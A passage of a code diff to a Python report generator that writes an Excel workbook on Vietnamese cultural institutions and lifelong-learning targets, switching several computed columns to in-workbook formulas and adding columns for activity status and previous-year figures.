-            value = Formula(f'=IF(AND(ISNUMBER(E{row}),ISNUMBER(F{row}),F{row}>0),(E{row}/F{row}-1)*100,"")')
+            value = f'=IF(AND(ISNUMBER(E{row}),ISNUMBER(F{row}),F{row}>0),(E{row}/F{row}-1)*100,"")'
             kind = _("Tăng trưởng")
-        note = _("{mark} số liệu tạm tính (xung đột)").format(mark=CONFLICT_MARK) if t.provisional else None
-        for c, (v, fmt) in enumerate(((n, None), (t.code, None), (t.label, None), (kind, None), (num, INT_FORMAT),
-                                      (den, INT_FORMAT), (value, PCT_FORMAT), (t.threshold, PCT_FORMAT),
-                                      (t.threshold_year, None), (t.status_label, None), (len(t.missing), INT_FORMAT),
-                                      (note, None)), 1):
-            _put(ws, row, c, v, fmt, align=WRAP if c in (3, 12) else None)
+        by_formula = _judged_by_formula(r, t)
+        note_text = _("{mark} số liệu tạm tính (xung đột)").format(mark=CONFLICT_MARK) if t.provisional else None
+        for c, (val, fmt) in enumerate(((n, None), (t.code, None), (t.label, None), (kind, None)), 1):
+            _put(ws, row, c, val, fmt, align=WRAP if c == 3 else None)
+        _formula(ws, row, 5, f"={src}!{ncol}{total_row}", INT_FORMAT)
+        _formula(ws, row, 6, f"={src}!{dcol}{total_row}", INT_FORMAT)
+        _formula(ws, row, 7, value, PCT_FORMAT)
+        _put(ws, row, 8, t.threshold, PCT_FORMAT)
+        _put(ws, row, 9, t.threshold_year)
+        if by_formula and t.kind == TargetKind.SHARE:
+            missing = _countifs(v, d.types, active, f"{v.range(v.criterion)},{_text(NO_DATA)}")
+            _formula(ws, row, 11, f"={missing}", INT_FORMAT)
+        else:
+            _put(ws, row, 11, len(t.missing), INT_FORMAT)
+        if by_formula:
+            _formula(ws, row, 10, status_formula(t, row, r.year, f"{_countifs(v, d.types)}=0"))
+        else:
+            _put(ws, row, 10, t.status_label)
+        _put(ws, row, 12, note_text, align=WRAP)
+        _put(ws, row, 13, t.line, PCT_FORMAT)
+        _formula(ws, row, 14, f"=IF(J{row}={_text(STATUS_LABELS[Status.MET])},{_text(YES)},{_text(NO)})",
+                 align=CENTER)
+        _fit_height(ws, row, [(t.label, widths[2]), (note_text, widths[11])])
     ws.freeze_panes = "D4"
     _page_setup(ws, "3:3", r.fingerprint, r.code)
 
 
-def _values(wb: Workbook, r: Report) -> None:
+def _values(wb: Workbook, r: Report, layout: ValuesLayout) -> None:
     ws = wb.create_sheet(VALUES)
-    codes = [i.code for i in INDICATORS]
+    v = layout
     titles = [_("STT"), _("Mã đơn vị"), _("Xã, phường"), _("Thiết chế"), _("Loại thiết chế")]
     titles += [i.label for i in INDICATORS] + [_("Tiêu chí học tập suốt đời"), _("Ghi chú")]
-    widths = [6, 10, 22, 34, 24] + [12] * len(codes) + [14, 22]
+    titles += [_("Hoạt động năm {y}").format(y=r.year), _("Dòng tổng hợp (mã)"), _("Mã loại"), _("Nhóm")]
+    titles += [_("{label} năm {y}").format(label=INDICATORS_BY_CODE[c].label, y=r.year - 1) for c in v.previous]
+    widths = [6, 10, 22, 34, 24] + [12] * len(CODES) + [14, 22] + [10, 10, 14, 8] + [14] * len(v.previous)
     _title(ws, _("Số liệu của các thiết chế năm {y} — {scope}").format(y=r.year, scope=r.scope_line), 10)
     _header(ws, 2, titles, widths)
-    ws.row_dimensions[2].height = 75
-    for n, inst in enumerate(r.institutions, 1):
-        row = 2 + n
+    row_of = r.workbook.row_of if r.workbook else {}
+    previous = r.workbook.previous if r.workbook else {}
+    for n, (inst, active) in enumerate(v.lines, 1):
+        row = VALUES_FIRST_ROW + n - 1
         base = (n, inst.unit_code, inst.unit_name, inst.name, TYPES_BY_CODE[inst.type].label)
-        for c, v in enumerate(base, 1):
-            _put(ws, row, c, v, align=WRAP if c in (3, 4, 5) else None)
-        for k, code in enumerate(codes, len(base) + 1):
+        for c, val in enumerate(base, 1):
+            _put(ws, row, c, val, align=WRAP if c in (3, 4, 5) else None)
+        for k, code in enumerate(CODES, len(base) + 1):
             _put(ws, row, k, inst.values.get(code), INT_FORMAT)
-        _put(ws, row, len(base) + len(codes) + 1, criterion_word(inst.meets))
+        cells = {code: f"{v.indicator[code]}{row}" for code in CODES}
+        formula = criterion_formula(FAMILY_CRITERION[inst.family], cells) if active else None
+        if formula:
+            _formula(ws, row, _col(v.criterion), formula)
+        else:
+            _put(ws, row, _col(v.criterion), criterion_word(inst.meets) if active else "—")
         note = (_("{mark} xung đột: {codes}").format(mark=CONFLICT_MARK, codes=", ".join(sorted(inst.conflicted)))
                 if inst.conflicted else None)
-        _put(ws, row, len(base) + len(codes) + 2, note, align=WRAP)
+        if not active:
+            note = _("Ngừng hoạt động năm {y}").format(y=r.year)
+        _put(ws, row, _col(v.note), note, align=WRAP)
+        _put(ws, row, _col(v.active), YES if active else NO)
+        _put(ws, row, _col(v.row), row_of.get(inst.id, inst.unit_code))
+        _put(ws, row, _col(v.type), inst.type)
+        _put(ws, row, _col(v.family), inst.family)
+        for code, letter in v.previous.items():
+            _put(ws, row, _col(letter), previous.get(inst.id, {}).get(code), INT_FORMAT)
+        _fit_height(ws, row, [(base[2], widths[2]), (base[3], widths[3]), (base[4], widths[4]),
+                              (note, widths[_col(v.note) - 1])])
     ws.freeze_panes = "E3"
     _page_setup(ws, "2:2", r.fingerprint, r.code)
 
@@ -303,12 +579,15 @@ def _missing(wb: Workbook, r: Report) -> None:
     ws = wb.create_sheet(MISSING)
     titles = [_("STT"), _("Mã đơn vị"), _("Xã, phường"), _("Thiết chế"), _("Loại thiết chế"),
               _("Chỉ tiêu bị ảnh hưởng")]
+    widths = [6, 10, 24, 40, 30, 50]
     _title(ws, _("Thiết chế chưa có số liệu (năm {y} hoặc năm {p}) — {scope}").format(
         y=r.year, p=r.year - 1, scope=r.scope_line), len(titles))
-    _header(ws, 2, titles, [6, 10, 24, 40, 30, 50])
+    _header(ws, 2, titles, widths)
     for n, m in enumerate(r.missing, 1):
-        for c, v in enumerate((n, m.unit_code, m.unit_name, m.name, m.type_label, ", ".join(m.targets)), 1):
-            _put(ws, 2 + n, c, v, align=WRAP if c > 2 else None)
+        values = (n, m.unit_code, m.unit_name, m.name, m.type_label, ", ".join(m.targets))
+        for c, val in enumerate(values, 1):
+            _put(ws, 2 + n, c, val, align=WRAP if c > 2 else None)
+        _fit_height(ws, 2 + n, list(zip(values[2:], widths[2:], strict=True)))
     ws.freeze_panes = "A3"
     _page_setup(ws, "2:2", r.fingerprint, r.code)
 
@@ -316,10 +595,12 @@ def _missing(wb: Workbook, r: Report) -> None:
 def render_xlsx(report: Report) -> bytes:
     wb = Workbook()
     _cover(wb, report)
-    columns, total_row = _units(wb, report)
-    _targets(wb, report, columns, total_row)
-    _values(wb, report)
+    layout = ValuesLayout(report)
+    columns, total_row = _units(wb, report, layout)
+    _targets(wb, report, columns, total_row, layout)
+    _values(wb, report, layout)
     _missing(wb, report)
+    _parameters(wb, report)
     wb.properties.title = " ".join(report.title_lines)
     wb.properties.creator = "lhtl"
     _text_is_text(wb)
